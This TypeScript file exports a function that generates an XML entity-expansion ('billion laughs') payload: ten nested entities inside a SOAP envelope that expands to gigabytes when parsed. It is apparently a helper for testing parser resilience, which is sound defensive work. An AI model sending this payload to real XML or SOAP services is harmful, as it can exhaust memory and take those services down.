const LEVELS = 10;
const TIMES = 10;

/** Returns a short document that expands to gigabytes when its entities are replaced. */
export function entityBomb(): string {
  const entities = Array.from({ length: LEVELS }, (_, level) => {
    const text = level === 0 ? 'ha' : `&e${level - 1};`.repeat(TIMES);
    return `  <!ENTITY e${level} "${text}">`;
  });
  return [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<!DOCTYPE Envelope [',
    ...entities,
    ']>',
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">',
    `  <soapenv:Body>&e${LEVELS - 1};</soapenv:Body>`,
    '</soapenv:Envelope>',
  ].join('\n');
}
